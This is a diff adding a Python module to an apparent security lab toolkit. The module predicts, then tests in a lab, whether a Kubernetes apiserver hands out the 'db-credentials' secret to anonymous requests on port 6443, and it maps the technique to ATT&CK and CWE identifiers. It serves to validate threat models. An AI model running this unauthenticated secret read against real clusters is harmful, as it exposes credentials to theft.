@@ -1,0 +1,75 @@
+"""Read secrets from the apiserver without any credential, on its TLS port."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+from labkit.errors import ProbeError
+from labkit.model import View
+from labkit.techniques._ask import ask, first_refusal, url_of
+from labkit.techniques._base import (
+    NETWORK,
+    POD,
+    SECRETS,
+    USER_ON_MASTER,
+    USER_ON_WORKER,
+    Prediction,
+    Technique,
+)
+from labkit.techniques._reach import Answer
+from labkit.techniques._secret import true_secret
+from labkit.techniques._verdict import Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+WANTED = ("shop", "db-credentials", "password")
+PATH = "/api/v1/namespaces/shop/secrets/db-credentials"
+CHANNEL = "* -> kube-apiserver@master:6443"
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: whether the anonymous are let in, and may do everything."""
+    channel = view.channels(CHANNEL)[0]
+    return first_refusal(
+        (channel.client_authentication, ("anonymous", "none")),
+        (channel.authorization, ("allow-all",)),
+    )
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Ask for a secret without saying who asks."""
+    secret = true_secret(lab, *WANTED)
+
+    def proof(answer: Answer) -> str:
+        if not secret.found_in(answer.body):
+            raise ProbeError("the apiserver answered, but not with the secret")
+        return f"read: {secret.proof}"
+
+    def control() -> str:
+        lab.kubectl("get", f"--raw={PATH}")
+        return "the administrator reads it on the same port"
+
+    url = url_of(View(lab.environment).channels(CHANNEL)[0], PATH)
+    return ask(lab, TECHNIQUE.name, foothold, url, proof=proof, control=control)
+
+
+TECHNIQUE = Technique(
+    name="apiserver-anonymous",
+    title="Read secrets from the apiserver without a credential",
+    footholds=(NETWORK, USER_ON_MASTER, USER_ON_WORKER, POD),
+    grants=(SECRETS,),
+    about=CHANNEL,
+    properties=("client_authentication", "authorization"),
+    attack=("T1078.001", "T1552.007"),
+    stride=("spoofing", "information disclosure"),
+    cwe=("CWE-306",),
+    sources=(
+        "https://kubernetes.io/docs/reference/access-authn-authz/authentication/",
+        "https://attack.mitre.org/techniques/T1552/007/",
+    ),
+    predict=predict,
+    execute=execute,
+)
